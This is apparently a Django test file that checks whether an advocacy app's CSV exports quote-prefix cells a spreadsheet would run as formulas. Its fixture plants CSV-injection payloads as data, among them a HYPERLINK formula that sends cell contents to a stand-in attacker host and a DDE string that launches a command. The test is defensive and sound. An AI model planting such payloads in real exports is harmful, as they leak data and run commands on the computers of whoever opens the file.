"""Every text cell of every CSV export that a spreadsheet would run as a formula is prefixed with a quote."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import Membership
from officials.models import Person, Term
from tests.factories.accounts import MembershipFactory, UserFactory
from tests.factories.campaigns import ActionFactory, CampaignFactory
from tests.factories.tallies import CallLogFactory

pytestmark = pytest.mark.django_db
MEMBER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TITLE = "+SUM(1+1)"
OFFICIAL = "@cmd|' /C calc'!A0"
NOTE = "-2+3"


@pytest.fixture
def poisoned(chapter, offices):
    user = UserFactory(email="mallory@example.org", name=MEMBER)
    MembershipFactory(user=user, chapter=chapter, role=Membership.Role.MEMBER)
    campaign = CampaignFactory(title=TITLE, slug="poisoned", chapter=chapter)
    action = ActionFactory(campaign=campaign, target_offices=[offices["doj"]])
    office = offices["attorney_general"]
    Person.objects.filter(pk=Term.objects.current().get(office=office).person_id).update(name=OFFICIAL)
    person = Term.objects.current().get(office=office).person
    CallLogFactory(
        user=user, campaign=campaign, action=action, office=office, person=person, chapter=chapter, note=NOTE
    )
    CallLogFactory(user=user, campaign=campaign, action=action, office=offices["doj"], chapter=chapter, note="\tx")


def _rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _exports(chapter):
    return [
        reverse("tallies:chapter_export", kwargs={"slug": chapter.slug, "kind": "figures"}),
        reverse("tallies:chapter_export", kwargs={"slug": chapter.slug, "kind": "calls"}),
        reverse("tallies:staff_export", kwargs={"kind": "figures"}),
        reverse("tallies:staff_export", kwargs={"kind": "calls"}),
    ]


def test_no_cell_of_any_export_starts_a_formula(client, poisoned, chapter, chapter_lead, staff_with_totp):
    cells = []
    for path in _exports(chapter):
        client.force_login(staff_with_totp if "/staff/" in path else chapter_lead)
        cells += [(path, cell) for row in _rows(client.get(path)) for cell in row]

    dangerous = [(path, cell) for path, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    texts = {cell for _, cell in cells}
    assert {"'" + MEMBER, "'" + TITLE, "'" + NOTE, "'\tx"} <= texts
    assert "'" + OFFICIAL in texts


def test_the_member_name_and_campaign_title_are_neutralised_in_the_figures(client, poisoned, chapter, chapter_lead):
    client.force_login(chapter_lead)
    rows = _rows(client.get(_exports(chapter)[0]))

    assert ["member", str(UserFactory(email="mallory@example.org").pk), "'" + MEMBER, "2"] in rows
    assert ["campaign", "poisoned", "'" + TITLE, "2"] in rows
